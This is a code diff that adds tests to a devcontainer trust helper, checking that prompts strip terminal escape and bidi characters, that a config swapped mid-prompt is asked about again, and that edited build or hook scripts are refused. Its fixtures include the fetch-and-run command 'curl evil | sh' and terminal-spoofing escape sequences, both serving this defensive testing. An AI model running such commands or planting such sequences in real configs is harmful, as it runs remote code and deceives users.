@@ -101,13 +101,14 @@ class Trust(unittest.TestCase):
     def state(self):
         return json.loads(self.helper.run_once("rpc", "trusted", json.dumps({"folder": self.repository})).stdout)
 
-    def answer_in_a_terminal(self, answer, *argv):
-        """The command in a terminal of its own; what was on it, and the exit status."""
+    def answer_in_a_terminal(self, answers, *argv, before_answer=lambda: None):
+        """The command in a terminal of its own, and an answer to each of its questions; what was on it, and the exit status."""
+        answers = [answers] if isinstance(answers, str) else list(answers)
         pid, terminal = pty.fork()
         if pid == 0:
             os.chdir(self.repository)
             os.execve(os.path.join(HELPER_BIN_DIR, "helper"), ["helper", *argv], self.helper.environment)
-        seen, answered, limit = b"", False, time.monotonic() + 60
+        seen, asked, limit = b"", 0, time.monotonic() + 60
         while time.monotonic() < limit:
             if not select.select([terminal], [], [], 1)[0]:
                 continue
@@ -118,9 +119,10 @@ class Trust(unittest.TestCase):
             if not part:
                 break
             seen += part
-            if not answered and b"(yes/no)" in seen:
-                os.write(terminal, answer.encode() + b"\n")
-                answered = True
+            if asked < len(answers) and seen.count(b"(yes/no)") > asked:
+                before_answer()
+                os.write(terminal, answers[asked].encode() + b"\n")
+                asked += 1
         os.close(terminal)
         status = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
         return seen.decode(errors="replace").replace("\r", ""), status
@@ -172,6 +174,45 @@ class Trust(unittest.TestCase):
                 self.assert_refused("ensure")
                 self.assertTrue(any(shown in line for line in self.state()["powers"]), self.state()["powers"])
         self.assert_nothing_happened()
+
+    def test_nothing_that_is_shown_can_steer_a_terminal_or_hide(self):
+        target = self.hostile()
+        target["post_create"] = ["true # \x1b[2J\x1b[1;1H \u202e \u200b\r\n  t1: connects to nowhere"]
+        target["container"]["command"] = ["sh", "-c", "\x9b31m" + "a" * 1_000_000]
+        self.config(target)
+        seen, status = self.answer_in_a_terminal("no", "ensure")
+        self.assertEqual(status, 130, seen[-2000:])
+        for bad in ("\x1b[2J", "\u202e", "\u200b", "\x9b", "\n  t1: connects to nowhere"):
+            self.assertNotIn(bad, seen)
+        self.assertIn("read the file", seen, "a line that is cut says so")
+        before = self.state()["digest"]
+        target["container"]["command"][2] += "b"
+        self.config(target)
+        self.assertNotEqual(self.state()["digest"], before)
+        self.assert_nothing_happened()
+
+    def test_a_config_that_is_swapped_while_the_question_is_open_is_asked_about_again(self):
+        self.config(self.hostile())
+        swapped = {**self.hostile(), "post_create": ["curl evil | sh"]}
+        seen, status = self.answer_in_a_terminal(("yes", "no"), "ensure", before_answer=lambda: self.config(swapped))
+        self.assertIn("new: t1: runs once in the container: curl evil | sh", seen)
+        self.assertEqual(status, 130, seen)
+        self.assert_nothing_happened()
+
+    def test_what_the_config_takes_over_counts_and_so_does_a_script_that_copy_puts_elsewhere(self):
+        self.write("repository/.devcontainer/devcontainer.json", '{"build": {"dockerfile": "Dockerfile"}, "postCreateCommand": "sh /opt/hook.sh"}')
+        self.write("repository/.devcontainer/Dockerfile", "FROM x\nCOPY . /opt\nRUN sh /opt/build.sh\n")
+        self.config({"server": f"me@127.0.0.1:{self.listener.port}", "devcontainer": "."})
+        for name in ("build.sh", "hook.sh"):
+            self.write(f"repository/.devcontainer/{name}", "true\n")
+        self.helper.run_once("trust")
+        self.assertEqual(self.state()["state"], "trusted")
+        for name, text in (("build.sh", "curl evil | sh\n"), ("hook.sh", "curl evil | sh\n"),
+                           ("devcontainer.json", '{"image": "x:1", "postCreateCommand": "curl evil | sh"}')):
+            self.write(f"repository/.devcontainer/{name}", text)
+            self.assert_refused("ensure")
+            self.assert_nothing_happened()
+            self.helper.run_once("trust")
 
     def test_names_of_the_environment_are_shown_and_values_go_nowhere(self):
         self.write("repository/.devcontainer/devcontainer.json", '{"image": "x:1", "containerEnv": {"A": "${localEnv:HELPER_TEST_SECRET}"}}')
